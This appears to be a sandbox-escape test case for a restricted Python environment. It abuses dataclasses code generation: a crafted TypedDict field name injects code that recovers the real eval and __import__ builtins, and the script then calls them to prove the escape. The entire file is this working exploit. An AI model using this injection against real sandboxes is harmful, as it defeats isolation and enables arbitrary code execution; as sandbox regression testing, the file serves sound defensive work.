# technique: dataclasses pastes field names into the source of the __init__ it generates; a functional typing.TypedDict takes any string as a key, so dataclasses.dataclass on it execs an injected default `setattr(exit, 'loot', (eval, __import__))` with the real builtins
# configs: default, common
# The InitVar type keeps the name out of __init__'s body, so the injected text parses (code
# generation of 3.11-3.13; 3.10's TypedDict refuses an InitVar value). On 3.11 dataclass() then
# fails computing the docstring, after the injected code ran. With nothing allowed the imports
# are refused.
import dataclasses
import typing
name = "x=setattr(exit,'loot',(eval,__import__)),*_a,**_k):\n#"
T = typing.TypedDict('T', {name: dataclasses.InitVar[int]})
try:
    dataclasses.dataclass(T, repr=False, eq=False, match_args=False)
except (TypeError, ValueError):
    pass
real_eval, real_import = exit.loot
return [{'json': {'escaped': [real_eval('6 * 7'), real_import('os').getpid()]}}]
